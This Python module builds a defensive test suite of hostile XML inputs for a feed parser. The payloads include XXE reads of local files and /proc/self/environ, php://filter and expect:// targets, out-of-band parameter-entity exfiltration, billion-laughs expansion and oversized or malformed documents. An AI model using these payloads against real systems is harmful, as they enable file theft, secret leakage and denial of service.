"""XML documents that attack a parser: entities, inclusions, depth, width, encodings.

FILE and URL in them are replaced by the baits, which no parser may open.
"""

from dataclasses import dataclass

FILE, URL = "%FILE%", "%URL%"


@dataclass(frozen=True)
class Trap:
    """The hostile parts of a document, for any protocol. data: replaces the whole document."""

    doctype: str = ""
    inner: str = "x"
    attributes: str = ""
    declaration: str = '<?xml version="1.0" encoding="UTF-8"?>'
    prolog: str = ""
    encoding: str = "utf-8"
    data: bytes = b""


WRAPPERS: dict[str, tuple[str, str]] = {
    "plain": ("r", "<title>{inner}</title>"),
    "oai-pmh": (
        "OAI-PMH",
        "<responseDate>2026-01-01T00:00:00Z</responseDate><request verb='ListRecords'>http://a.example/</request>"
        "<ListRecords><record><header><identifier>oai:a:1</identifier><datestamp>2026-01-01</datestamp></header>"
        "<metadata><dc xmlns='http://www.openarchives.org/OAI/2.0/oai_dc/'><title xmlns='"
        "http://purl.org/dc/elements/1.1/'>{inner}</title></dc></metadata></record></ListRecords>",
    ),
    "resourcesync": (
        "urlset",
        "<rs:md xmlns:rs='http://www.openarchives.org/rs/terms/' capability='resourcelist' at='2026-01-01T00:00:00Z'/>"
        "<url><loc>http://a.example/1</loc><lastmod>{inner}</lastmod></url>",
    ),
    "rss": (
        "rss",
        "<channel><title>t</title><item><link>http://a.example/1</link><title>{inner}</title></item></channel>",
    ),
    "file": (
        "collection",
        "<record xmlns='http://www.loc.gov/MARC21/slim'><controlfield tag='001'>{inner}</controlfield></record>",
    ),
    "live-sru": (
        "searchRetrieveResponse",
        "<version>1.2</version><numberOfRecords>1</numberOfRecords><records><record><recordData>"
        "<dc xmlns='info:srw/schema/1/dc-schema'><title xmlns='http://purl.org/dc/elements/1.1/'>{inner}</title></dc>"
        "</recordData></record></records>",
    ),
    "live-opensearch": (
        "OpenSearchDescription",
        "<ShortName>{inner}</ShortName><Url type='application/rss+xml' template='/feed?q={searchTerms}'/>",
    ),
}
WRAPPERS["live-json"] = WRAPPERS["live-link"] = WRAPPERS["plain"]
WRAPPERS["push"] = WRAPPERS["file"]
NAMESPACES = {
    "oai-pmh": "xmlns='http://www.openarchives.org/OAI/2.0/'",
    "resourcesync": "xmlns='http://www.sitemaps.org/schemas/sitemap/0.9'",
    "rss": "version='2.0'",
    "live-sru": "xmlns='http://www.loc.gov/zing/srw/'",
}


def document(trap: Trap, protocol: str, file: str, url: str) -> bytes:
    """Return the trap as a document of this protocol, with the baits filled in."""
    root, content = WRAPPERS[protocol]
    text = trap.data.decode("latin-1") or (
        f"{trap.declaration}{trap.prolog}{trap.doctype.replace('ROOT', root)}"
        f"<{root} {NAMESPACES.get(protocol, '')} {trap.attributes}>{content.replace('{inner}', trap.inner)}</{root}>"
    )
    text = text.replace(FILE, file).replace(URL, url)
    return text.encode("latin-1") if trap.data else text.encode(trap.encoding, "xmlcharrefreplace")


def laughs(levels: int, width: int, kind: str = "") -> str:
    lines = [f'<!ENTITY {kind} e0 "{"ha" * 20}">']
    sign = "%" if kind else "&"
    lines += [f'<!ENTITY {kind} e{n} "{f"{sign}e{n - 1};" * width}">' for n in range(1, levels)]
    return f"<!DOCTYPE ROOT [{''.join(lines)}]>"


def external(target: str, kind: str = "SYSTEM") -> str:
    public = '"-//A//B//EN" ' if kind == "PUBLIC" else ""
    return f'<!DOCTYPE ROOT [<!ENTITY x {kind} {public}"{target}">]>'


def external_dtd(target: str, kind: str = "SYSTEM", subset: str = "") -> str:
    public = '"-//A//B//EN" ' if kind == "PUBLIC" else ""
    return f'<!DOCTYPE ROOT {kind} {public}"{target}"{f" [{subset}]" if subset else ""}>'


TARGETS = {
    "file": f"file://{FILE}",
    "path": FILE,
    "relative": f"../../../../../../../../{FILE}",
    "file host": f"file://localhost{FILE}",
    "http": f"{URL}/x.dtd",
    "netdoc": f"netdoc:{FILE}",
    "ftp": f"ftp://{URL[:-1]}%/x",
    "php": f"php://filter/read=convert.base64-encode/resource={FILE}",
    "jar": f"jar:file://{FILE}!/x",
    "data": "data:text/plain,leaked",
    "expect": "expect://id",
    "device": "file:///dev/zero",
    "random": "/dev/random",
    "proc": "file:///proc/self/environ",
}
XSI = "http://www.w3.org/2001/XMLSchema-instance"
DEEP = 100_000
MANY = 300_000


def traps() -> dict[str, Trap]:
    found: dict[str, Trap] = {}
    for name, target in TARGETS.items():
        found[f"entity {name}"] = Trap(external(target), "&x;")
        found[f"entity in an attribute {name}"] = Trap(external(target), "y", 'a="&x;"')
        found[f"external DTD {name}"] = Trap(external_dtd(target), "&leak;")
    for name in ("file", "http"):
        target = TARGETS[name]
        found[f"public entity {name}"] = Trap(external(target, "PUBLIC"), "&x;")
        found[f"public DTD {name}"] = Trap(external_dtd(target, "PUBLIC"), "&leak;")
        found[f"DTD with identifiers {name}"] = Trap(external_dtd(target), "<a id='i'/>", "xml:id='j'")
        found[f"DTD and subset {name}"] = Trap(external_dtd(target, subset='<!ENTITY a "b">'), "&a;&leak;")
        found[f"DTD alone {name}"] = Trap(external_dtd(target), "x", declaration="")
        found[f"standalone DTD {name}"] = Trap(
            external_dtd(target), "&leak;", declaration="<?xml version='1.0' standalone='no'?>"
        )
        found[f"parameter entity {name}"] = Trap(f'<!DOCTYPE ROOT [<!ENTITY % p SYSTEM "{target}"> %p;]>', "&leak;")
        found[f"parameter entity out of band {name}"] = Trap(
            f'<!DOCTYPE ROOT [<!ENTITY % f SYSTEM "{TARGETS["file"]}"><!ENTITY % p SYSTEM "{target}">%p;%send;]>', "x"
        )
        found[f"unparsed entity {name}"] = Trap(
            f'<!DOCTYPE ROOT [<!NOTATION n SYSTEM "{target}"><!ENTITY u SYSTEM "{target}" NDATA n>'
            "<!ATTLIST ROOT e ENTITY #IMPLIED>]>",
            "x",
            'e="u"',
        )
        found[f"conditional section {name}"] = Trap(
            f'<!DOCTYPE ROOT [<!ENTITY % i "INCLUDE"><!ENTITY % p SYSTEM "{target}"><![%i;[%p;]]>]>', "x"
        )
        found[f"XInclude text {name}"] = Trap(
            inner=f'<i:include xmlns:i="http://www.w3.org/2001/XInclude" parse="text" href="{target}"/>'
        )
        found[f"XInclude xml {name}"] = Trap(
            inner=f'<i:include xmlns:i="http://www.w3.org/2001/XInclude" href="{target}"><i:fallback/></i:include>'
        )
        found[f"old XInclude {name}"] = Trap(
            inner=f'<i:include xmlns:i="http://www.w3.org/2003/XInclude" href="{target}"/>'
        )
        found[f"schemaLocation {name}"] = Trap(attributes=f'xmlns:xsi="{XSI}" xsi:schemaLocation="urn:x {target}"')
        found[f"noNamespaceSchemaLocation {name}"] = Trap(
            attributes=f'xmlns:xsi="{XSI}" xsi:noNamespaceSchemaLocation="{target}"'
        )
        found[f"stylesheet {name}"] = Trap(prolog=f'<?xml-stylesheet type="text/xsl" href="{target}"?>')
        found[f"model {name}"] = Trap(prolog=f'<?xml-model href="{target}"?>')
        found[f"namespace {name}"] = Trap(inner="<a:b/>", attributes=f'xmlns:a="{target}"')
        found[f"base {name}"] = Trap(inner="<a href='x'/>", attributes=f'xml:base="{target}"')
        found[f"XSLT {name}"] = Trap(
            inner=f'<xsl:value-of xmlns:xsl="http://www.w3.org/1999/XSL/Transform" select="document(\'{target}\')"/>'
        )
    return found | expansions() | sizes() | encodings()


def expansions() -> dict[str, Trap]:
    return {
        "billion laughs": Trap(laughs(10, 10), "&e9;"),
        "billion laughs in an attribute": Trap(laughs(10, 10), "x", 'a="&e9;"'),
        "laughs, thirty levels": Trap(laughs(30, 2), "&e29;"),
        "laughs of parameter entities": Trap(laughs(10, 10, "%"), "x"),
        "quadratic blowup": Trap(f'<!DOCTYPE ROOT [<!ENTITY a "{"a" * 50_000}">]>', "&a;" * 20_000),
        "entity of itself": Trap('<!DOCTYPE ROOT [<!ENTITY a "&a;">]>', "&a;"),
        "entities of each other": Trap('<!DOCTYPE ROOT [<!ENTITY a "&b;"><!ENTITY b "&a;">]>', "&a;"),
        "entity that is not declared": Trap("<!DOCTYPE ROOT>", "&nbsp;&eacute;"),
        "entity without DOCTYPE": Trap(inner="&nbsp;"),
        "default attributes": Trap('<!DOCTYPE ROOT [<!ATTLIST ROOT a CDATA "leaked">]>'),
        "default namespace by DTD": Trap('<!DOCTYPE ROOT [<!ATTLIST ROOT xmlns CDATA #FIXED "urn:evil">]>'),
        "content model that backtracks": Trap(
            f"<!DOCTYPE ROOT [<!ELEMENT ROOT ({'(a?,' * 2000}b{')' * 2000})>]>", "<a/>"
        ),
        "ten thousand entities": Trap(
            f"<!DOCTYPE ROOT [{''.join(f'<!ENTITY e{n} "x">' for n in range(10_000))}]>", "&e1;"
        ),
        "comment in the subset": Trap(f"<!DOCTYPE ROOT [<!--{'-x' * 100_000}-->]>"),
        "entity that closes an element": Trap('<!DOCTYPE ROOT [<!ENTITY a "</title><title>">]>', "&a;"),
        "character reference to NUL": Trap(inner="&#0;"),
        "character reference beyond Unicode": Trap(inner="&#x110000;&#99999999999999999999;"),
        "surrogate references": Trap(inner="&#xD83D;&#xDE00;"),
        "a hundred thousand references": Trap(inner="&#x2603;" * 100_000),
        "DOCTYPE twice": Trap("<!DOCTYPE ROOT><!DOCTYPE ROOT [<!ENTITY a 'b'>]>", "&a;"),
        "DOCTYPE inside": Trap(inner="<!DOCTYPE r [<!ENTITY a 'b'>]>&a;"),
        "DOCTYPE without end": Trap(f"<!DOCTYPE ROOT [{'<!ENTITY a ' * 20_000}"),
    }


def sizes() -> dict[str, Trap]:
    return {
        "deep": Trap(inner="<a>" * DEEP + "</a>" * DEEP),
        "deep and not closed": Trap(inner="<a>" * DEEP),
        "deep in 250": Trap(inner="<a>" * 200 + "</a>" * 200),
        "deep with namespaces": Trap(inner="".join(f'<a xmlns="urn:{n}">' for n in range(5000)) + "</a>" * 5000),
        "huge text": Trap(inner="x" * 11_000_000),
        "huge attribute": Trap(attributes=f'a="{"x" * 11_000_000}"'),
        "huge name": Trap(inner=f"<{'n' * 1_000_000}/>"),
        "huge attribute name": Trap(attributes=f'{"n" * 1_000_000}="1"'),
        "huge comment": Trap(inner=f"<!--{'x' * 11_000_000}-->"),
        "huge CDATA": Trap(inner=f"<![CDATA[{'x' * 11_000_000}]]>"),
        "huge processing instruction": Trap(inner=f"<?x {'y' * 11_000_000}?>"),
        "huge namespace": Trap(attributes=f'xmlns:a="urn:{"x" * 5_000_000}"', inner="<a:b/>"),
        "many attributes": Trap(attributes=" ".join(f'a{n}="1"' for n in range(MANY))),
        "many elements": Trap(inner="<a/>" * MANY),
        "many names": Trap(inner="".join(f"<a{n}/>" for n in range(100_000))),
        "many namespaces": Trap(attributes=" ".join(f'xmlns:n{n}="urn:{n}"' for n in range(50_000))),
        "many namespaces below each other": Trap(inner="".join(f'<a xmlns:n{n}="urn:{n}"/>' for n in range(50_000))),
        "many processing instructions": Trap(inner="<?a b?>" * MANY),
        "many comments": Trap(inner="<!---->" * MANY),
        "many CDATA sections": Trap(inner="<![CDATA[x]]>" * MANY),
        "CDATA never closed": Trap(inner="<![CDATA[" * 50_000),
        "comment never closed": Trap(inner="<!--" * 50_000),
        "records never closed": Trap(inner="<record><header>" * 50_000),
        "records in records": Trap(inner="<record>" * 200 + "</record>" * 200),
        "angle brackets": Trap(inner="<" * 200_000),
        "closing tags": Trap(inner="</a>" * 100_000),
        "ampersands": Trap(inner="&" * 200_000),
        "attributes of one name": Trap(attributes='a="1" ' * 50_000),
        "blanks": Trap(inner=" " * 5_000_000, attributes=" " * 1_000_000),
        "blanks in a tag": Trap(inner=f"<a{' ' * 1_000_000}"),
        "quotes": Trap(attributes="a='" * 100_000),
    }


def encodings() -> dict[str, Trap]:
    latin = '<?xml version="1.0" encoding="{}"?>'
    entity = external(TARGETS["file"])
    return {
        "UTF-7": Trap(data=b'<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE r+AD4-<r>+ADw-a+AD4-</r>'),
        "UTF-16 with an entity": Trap(entity, "&x;", declaration=latin.format("UTF-16"), encoding="utf-16"),
        "UTF-16 without a mark": Trap(entity, "&x;", declaration=latin.format("UTF-16LE"), encoding="utf-16-le"),
        "UTF-16 undeclared": Trap(entity, "&x;", declaration="", encoding="utf-16"),
        "UTF-32": Trap(entity, "&x;", declaration=latin.format("UTF-32"), encoding="utf-32"),
        "EBCDIC": Trap(entity, "&x;", declaration=latin.format("IBM037"), encoding="cp037"),
        "Shift_JIS with an entity": Trap(
            entity, "&x;図書", declaration=latin.format("Shift_JIS"), encoding="shift_jis"
        ),
        "UTF-8 said, UTF-16 sent": Trap(entity, "&x;", encoding="utf-16-be"),
        "encoding that is none": Trap(declaration=latin.format("no-such-encoding")),
        "encoding of thousands of letters": Trap(declaration=latin.format("x" * 100_000)),
        "ISO-2022-JP": Trap(inner="図書", declaration=latin.format("ISO-2022-JP"), encoding="iso-2022-jp"),
        "bytes that are no UTF-8": Trap(data=b"<r>" + b"\xff\xfe\xc0\x80" * 50_000 + b"</r>"),
        "overlong UTF-8": Trap(data=b"<r>\xc0\xbcscript\xc0\xbe</r>"),
        "NUL bytes": Trap(data=b"<r>" + b"\0" * 100_000 + b"</r>"),
        "XML 1.1": Trap(declaration='<?xml version="1.1"?>', inner="&#1;&#x85;"),
        "XML 9.9": Trap(declaration='<?xml version="9.9"?>'),
        "nothing": Trap(data=b" "),
        "gzip": Trap(data=b"\x1f\x8b\x08\0\0\0\0\0\0\3" + b"\xff" * 1000),
        "two documents": Trap(data=b"<r/>" * 100_000),
        "declaration inside": Trap(inner='<?xml version="1.0"?><a/>'),
    }
